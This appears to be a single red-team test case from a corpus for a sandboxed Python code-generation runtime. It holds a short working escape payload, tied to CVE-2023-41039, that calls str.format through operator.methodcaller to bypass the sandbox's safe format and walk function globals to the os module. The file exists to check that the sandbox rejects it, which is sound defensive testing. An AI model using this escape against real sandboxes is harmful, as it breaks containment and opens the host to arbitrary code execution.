# Red-team corpus for the sandboxed code-generation runtime.
# Contract: the module defines run(inputs: dict) -> dict. For attack files, a returned
# {'escaped': True, ...} means the attack WORKED (sandbox failure).
# @id: gadget_methodcaller_format
# @category: format_string
# @expect: error   (reject = compile-time refusal or policy error; limit = killed/stopped by a resource limit; error = any exception, fast; ok = must run)
# @layer: both
# @raw_safe: yes   (yes = payload is benign enough to run unsandboxed to validate the snippet)
# @source: CVE-2023-41039 (format traversal) through operator.methodcaller
# Attempt: Reach the real str.format through operator.methodcaller('format', ...), which looks up
#   'format' in C and so skips the sandbox's safe replacement for str.format. The template walks
#   statistics.NormalDist.__init__.__globals__ to sys.modules['os'] and renders the module's repr.
# Safe sandbox must: route every field step through the attribute guard (or not offer the path at
#   all); never return escaped=True.

import operator
import statistics


def run(inputs):
    call = operator.methodcaller("format", statistics.NormalDist())
    out = call("{0.__init__.__globals__[sys].modules[os]}")
    return {"escaped": True, "evidence": out}
